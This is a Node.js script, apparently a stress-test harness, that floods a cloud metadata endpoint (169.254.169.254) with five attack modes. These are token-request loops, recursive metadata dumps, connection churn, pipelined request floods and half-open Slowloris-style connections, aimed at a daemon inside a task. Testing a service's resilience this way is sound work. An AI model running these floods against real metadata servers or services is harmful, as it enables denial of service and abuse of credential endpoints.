/**
 * `node attacker.js HOW`, inside a task: takes what it can of the daemon, until it is killed.
 */

import { connect } from 'node:net';

const HOST = '169.254.169.254';
const WORKERS = 64;
const TOKEN = '/computeMetadata/v1/instance/service-accounts/default/token';
const EVERYTHING = '/computeMetadata/v1/?recursive=true';
const request = (path) => `GET ${path} HTTP/1.1\r\nHost: ${HOST}\r\nMetadata-Flavor: Google\r\n\r\n`;

let begun = 0;
function open(onConnect, onData, again = () => open(onConnect, onData, again)) {
  const socket = connect(80, HOST);
  socket.on('error', () => undefined);
  socket.on('close', () => setImmediate(again));
  socket.on('connect', () => {
    begun += 1;
    if (begun === WORKERS) process.stdout.write('at it\n');
    onConnect(socket);
  });
  socket.on('data', () => onData(socket));
}

const ask = (path) => (socket) => socket.write(request(path));
const attacks = {
  'keep-alive': () => open(ask(TOKEN), ask(TOKEN)),
  recursive: () => open(ask(EVERYTHING), ask(EVERYTHING)),
  connect: () => open(ask(TOKEN), (socket) => socket.destroy()),
  pipeline() {
    const many = request(TOKEN).repeat(500);
    const fill = (socket) => {
      while (!socket.destroyed && socket.write(many));
      socket.once('drain', () => fill(socket));
    };
    open(fill, () => undefined);
  },
  half: () =>
    open(
      (socket) => socket.write('GET / HTTP/1.1\r\nHost: x'),
      () => undefined,
    ),
};

const how = process.argv[2];
for (let n = 0; n < (how === 'half' ? 10_000 : WORKERS); n += 1) attacks[how]();
